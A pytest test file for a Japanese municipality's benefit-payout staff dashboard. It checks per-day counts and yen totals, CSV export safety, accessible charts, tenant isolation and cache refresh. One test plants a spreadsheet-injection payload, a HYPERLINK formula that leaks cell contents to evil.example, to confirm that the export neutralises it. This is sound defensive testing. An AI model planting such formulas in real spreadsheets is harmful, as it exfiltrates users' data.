"""支給状況 (app/staff/progress.py, /staff/progress): per program and Japan-time day, received, verified,
waiting for 審査, drafted, paid and returned, counts and yen, against a world built by the real drafting,
approval, release, reconciliation and recall code; the CSV is formula-safe, has a BOM and parses back to
the same figures; the page draws them as accessible SVG with a table; another municipality's figures
never appear."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from redis.asyncio import Redis
from starlette.testclient import TestClient

from app.csvsafe import restore
from app.main import arq_redis, create_app
from app.staff import progress
from app.staff.progress import Figure
from app.tenancy.transaction import tenant_transaction
from payouts import batches, reconcile, recovery
from payouts.bankdays import JST, today_jst
from payouts.returns_csv import ReturnRow, write_returns_csv
from tests.jobs import draft, run_payout_jobs
from tests.staff.conftest import add_application, add_bank_settings
from tests.staff.test_web import login
from workers.progress import refresh_progress

TODAY = today_jst()
D1, D2, D3 = (TODAY - dt.timedelta(days=k) for k in (10, 9, 8))


def jst(day: dt.date, hh: int, mm: int, ss: int = 0) -> dt.datetime:
    return dt.datetime(day.year, day.month, day.day, hh, mm, ss, tzinfo=JST)


SET_TIMES = """
UPDATE applications SET submitted_at = $2, decided_at = $3, decided_by = $4
WHERE municipality_code = $1 AND application_id = $5
"""


async def _seeded(make_world, app_pool, settings, transfer_date, tmp_path):
    """Six applications with known days (two either side of a JST midnight), three of them drafted, released
    and reconciled (one 振込不能), and one of the paid ones recalled (組戻し). Returns (world, ids)."""
    world = await make_world(applications=0)
    code, rev = world.code, world.staff["rev"].staff_id
    plan = {
        # name: status, yen, submitted, decided, decided by a reviewer
        "A": ("approved", 100_000, jst(D1, 23, 59, 30), jst(D3, 10, 0), rev),
        "B": ("verified", 30_000, jst(D2, 0, 0, 30), jst(D2, 0, 0, 31), None),
        "C": ("needs_review", 50_000, jst(D2, 12, 0), jst(D2, 12, 0, 1), None),
        "D": ("rejected", 70_000, jst(D1, 9, 0), jst(D2, 15, 0), rev),
        "E": ("received", 20_000, jst(D3, 9, 0), None, None),
        "F": ("verified", 40_000, jst(D2, 10, 0), jst(D2, 10, 0, 1), None),
    }
    ids = {}
    async with tenant_transaction(app_pool, code) as conn:
        await add_bank_settings(conn, code)
        for name, (status, yen, submitted, decided, by) in plan.items():
            ids[name] = await add_application(conn, world, status=status, amount_yen=yen, reasons=())
            await conn.execute(SET_TIMES, code, submitted, decided, by, ids[name])
    batch_id = await draft(app_pool, world, transfer_date)
    [sha] = await run_payout_jobs(app_pool, settings, code)
    async with tenant_transaction(app_pool, code) as conn:
        await batches.approve_batch(conn, settings, code, world.staff["appr"], batch_id, sha)
        await batches.release_batch(conn, settings, code, world.staff["appr"], batch_id)
        pay = {
            r["application_id"]: r["payment_id"]
            for r in await conn.fetch("SELECT application_id, payment_id FROM payments WHERE batch_id = $1", batch_id)
        }
    [outcome] = await run_payout_jobs(app_pool, settings, code)
    assert outcome.startswith("released"), outcome
    returns = write_returns_csv([ReturnRow(pay[ids["B"]], "2", "取引なし")], tmp_path / "returns.csv")
    await reconcile.import_returns(app_pool, code, returns, batch_id=batch_id)
    async with tenant_transaction(app_pool, code) as conn:
        await recovery.request_recall(conn, code, world.staff["draft"], pay[ids["F"]], "二重の振込")
        await recovery.answer_recall(conn, code, world.staff["rev"], pay[ids["F"]], "returned", "組戻し済", 0)
    return world, ids


async def test_figures_are_per_program_per_jst_day_in_counts_and_yen(
    make_world, app_pool, settings, transfer_date, tmp_path
):
    world, _ = await _seeded(make_world, app_pool, settings, transfer_date, tmp_path)
    async with tenant_transaction(app_pool, world.code, readonly=True) as conn:
        [p] = await progress.program_progress(conn, world.code)
    assert p.program_id == world.program_id
    days = {d.day: d for d in p.days}
    # From the first event to the transfer date (later than today), one entry per day, none missing.
    assert p.days[0].day == D1 and p.days[-1].day == transfer_date
    assert len(p.days) == (transfer_date - D1).days + 1

    def daily(day, series):
        return days[day].daily[series] if day in days else Figure()

    # 受付: A (23:59:30 JST) on D1 although it is D1 14:59 UTC; B (00:00:30 JST) on D2, the previous UTC day.
    assert daily(D1, "received") == Figure(2, 170_000)  # A, D
    assert daily(D2, "received") == Figure(3, 120_000)  # B, C, F
    assert daily(D3, "received") == Figure(1, 20_000)  # E
    # 確認済: the machine's decisions on their day, the reviewer's approval on the day of the decision.
    assert daily(D2, "verified") == Figure(2, 70_000)  # B, F
    assert daily(D3, "verified") == Figure(1, 100_000)  # A
    # 審査待ち at each day's end: A and D from their receipt to the reviewer's decision; C still waiting.
    assert [daily(d, "in_review") for d in (D1, D2, D3)] == [Figure(2, 170_000), Figure(2, 150_000), Figure(1, 50_000)]
    assert p.latest.total["in_review"] == Figure(1, 50_000)
    # 起案 today (A, B, F); 支払済 on the transfer date (A, F: paid, then recalled); 返却 today (B 不能, F 組戻し).
    assert daily(TODAY, "drafted") == Figure(3, 170_000)
    assert daily(transfer_date, "paid") == Figure(2, 140_000)
    assert daily(TODAY, "returned") == Figure(2, 70_000)
    # Running totals at the end: every flow summed once.
    total = p.latest.total
    assert [total[s] for s in progress.FLOWS] == [
        Figure(6, 310_000),
        Figure(3, 170_000),
        Figure(3, 170_000),
        Figure(2, 140_000),
        Figure(2, 70_000),
    ]
    assert sum(d.daily["received"].n for d in p.days) == 6


async def test_an_application_staff_withdrew_never_waited_for_review(make_world, app_pool):
    """decided_by is also set when staff withdraw an application (payouts/holds.py): not a review."""
    world = await make_world(applications=0)
    async with tenant_transaction(app_pool, world.code) as conn:
        app_id = await add_application(conn, world, status="withdrawn", reasons=())
        await conn.execute(SET_TIMES, world.code, jst(D1, 9, 0), jst(D3, 9, 0), world.staff["draft"].staff_id, app_id)
        [p] = await progress.program_progress(conn, world.code)
    assert p.days[0].daily["received"] == Figure(1, 100_000)
    assert all(d.daily["in_review"] == Figure() for d in p.days)


async def test_a_program_without_applications_has_no_days_and_another_municipality_sees_nothing(
    make_world, app_pool, settings, transfer_date, tmp_path
):
    world, _ = await _seeded(make_world, app_pool, settings, transfer_date, tmp_path)
    other = await make_world(applications=0)
    async with tenant_transaction(app_pool, other.code, readonly=True) as conn:
        [p] = await progress.program_progress(conn, other.code)
        # The other municipality's statement, asked for the first one's code, sees none of its rows (RLS).
        leaked = await conn.fetch(progress.DAILY, world.code)
    assert p.program_id == other.program_id and p.days == [] and p.latest is None
    assert leaked == []


async def test_the_csv_is_excel_ready_formula_safe_and_parses_back_to_the_figures(
    make_world, app_pool, settings, transfer_date, tmp_path
):
    world, _ = await _seeded(make_world, app_pool, settings, transfer_date, tmp_path)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"給付")'
    async with tenant_transaction(app_pool, world.code) as conn:
        await conn.execute("UPDATE programs SET name = $2 WHERE program_id = $1", world.program_id, hostile)
        figures = await progress.program_progress(conn, world.code)
    data = progress.to_csv(figures)
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Japanese Excel reads the file as UTF-8
    text = data[3:].decode("utf-8")
    assert "\r\n" in text and text.count("\r\n") == len(figures[0].days) + 1
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == progress.CSV_HEADER
    assert rows[0][:5] == ["日付", "事業番号", "事業名", "受付件数", "受付金額（円）"]
    body = rows[1:]
    assert len(body) == len(figures[0].days)
    assert {r[2] for r in body} == {"'" + hostile}  # neutralised: a spreadsheet shows text, runs nothing
    assert restore(body[0][2]) == hostile
    by_day = {r[0]: dict(zip(rows[0], r, strict=True)) for r in body}
    assert by_day[D2.isoformat()]["受付件数"] == "3" and by_day[D2.isoformat()]["受付金額（円）"] == "120000"
    assert by_day[D2.isoformat()]["審査待ち（日末）件数"] == "2"
    last = by_day[transfer_date.isoformat()]
    assert (last["支払済件数"], last["支払済金額（円）"], last["支払済件数累計"]) == ("2", "140000", "2")
    assert (last["受付件数累計"], last["受付金額累計（円）"]) == ("6", "310000")
    assert by_day[TODAY.isoformat()]["返却金額（円）"] == "70000"


@pytest.fixture
def client(settings):
    with TestClient(create_app(settings), follow_redirects=False) as c:
        yield c


async def test_the_page_draws_accessible_charts_with_a_table_and_serves_the_csv(
    make_world, app_pool, settings, transfer_date, tmp_path, client
):
    world, _ = await _seeded(make_world, app_pool, settings, transfer_date, tmp_path)
    assert client.get("/staff/progress").status_code == 303  # signed out: the login page
    assert client.get("/staff/progress.csv").status_code == 303
    assert login(client, world.code, "rev").status_code == 303
    home = client.get("/staff/")
    assert 'href="/staff/progress"' in home.text
    r = client.get("/staff/progress")
    assert r.status_code == 200
    pid = world.program_id
    assert r.text.count('role="img"') == 2  # one chart of counts, one of yen
    assert f'aria-labelledby="chart-{pid}-count-title chart-{pid}-count-desc"' in r.text
    assert f'<title id="chart-{pid}-count-title">物価高騰支援給付金の件数の推移</title>' in r.text
    assert "受付 6件" in r.text and "支払済 140,000円" in r.text  # the charts' descriptions
    assert f'id="total-{pid}-paid">2件<' in r.text and f'id="total-yen-{pid}-returned">70,000円<' in r.text
    assert r.text.count("<polyline") == 2 * len(progress.SERIES)
    assert "集計時刻: " in r.text and " JST" in r.text.split('id="counted-at"')[1].split("</p>")[0]
    assert "<script" not in r.text
    export = client.get("/staff/progress.csv")
    assert export.status_code == 200
    assert export.headers["content-type"] == "text/csv; charset=utf-8"
    assert export.headers["content-disposition"] == (
        f'attachment; filename="shikyu-jokyo-{world.code}-{TODAY.isoformat()}.csv"'
    )
    assert export.content.startswith("\ufeff日付,事業番号,事業名,".encode())


def _received(programs) -> int:
    [p] = programs
    return p.latest.total["received"].n if p.days else 0


async def test_a_view_shows_the_kept_count_and_asks_the_worker_for_a_new_one_once_it_is_a_minute_old(
    make_world, app_pool, settings
):
    world = await make_world(applications=2)
    code, job = world.code, f"arq:job:{progress.REFRESH_JOB}:{world.code}"
    redis = arq_redis(settings)
    try:

        async def view(**kw):
            async with tenant_transaction(app_pool, code, readonly=True) as conn:
                counted = await progress.current(conn, redis, code, **kw)
                return counted, await progress.program_progress(conn, code, counted=counted)

        first, figures = await view()  # nothing kept yet: counted while the person waits, and kept
        assert _received(figures) == 2 and await redis.exists(progress.CACHE_KEY.format(code))
        async with tenant_transaction(app_pool, code) as conn:
            await add_application(conn, world)
        again, figures = await view()  # within the minute: the kept count, no job
        assert again.at == first.at and _received(figures) == 2 and not await redis.exists(job)
        late = first.at + dt.timedelta(seconds=progress.FRESH_S + 1)
        stale, figures = await view(now=late)  # a minute old: still shown, and the worker is asked once
        assert stale.at == first.at and _received(figures) == 2 and await redis.exists(job)
        await view(now=late)  # a second view while the job waits queues no second one
        queue = await redis.zrange("arq:queue", 0, -1)
        assert queue.count(job.removeprefix("arq:job:").encode()) == 1
        assert await refresh_progress({"pool": app_pool, "redis": redis}, code) == f"counted {len(first.rows)} rows"
        fresh, figures = await view()
        assert fresh.at > first.at and _received(figures) == 3
        # Another municipality's count is its own key: this one's figures are never shown there.
        other = await make_world(applications=0)
        async with tenant_transaction(app_pool, other.code, readonly=True) as conn:
            counted = await progress.current(conn, redis, other.code)
            assert _received(await progress.program_progress(conn, other.code, counted=counted)) == 0
    finally:
        await redis.delete(job)
        await redis.zrem("arq:queue", job.removeprefix("arq:job:"))
        await redis.aclose()


async def test_without_valkey_every_view_counts(make_world, app_pool, caplog):
    world = await make_world(applications=1)
    down = Redis.from_url("redis://127.0.0.1:9", socket_connect_timeout=0.5)  # nothing listens on port 9
    try:
        async with tenant_transaction(app_pool, world.code, readonly=True) as conn:
            counted = await progress.current(conn, down, world.code)
            assert _received(await progress.program_progress(conn, world.code, counted=counted)) == 1
    finally:
        await down.aclose()
    assert "not read from Redis (ConnectionError)" in caplog.text


def test_the_job_a_stale_view_queues_is_one_the_worker_runs(settings):
    """The name current() enqueues is registered with the worker (workers/settings.py), keeping no result so
    that its job id is free again when it ends."""
    from workers.settings import worker_settings

    [job] = [f for f in worker_settings(settings)["functions"] if getattr(f, "name", None) == progress.REFRESH_JOB]
    assert job.coroutine is refresh_progress and job.keep_result_s == 0
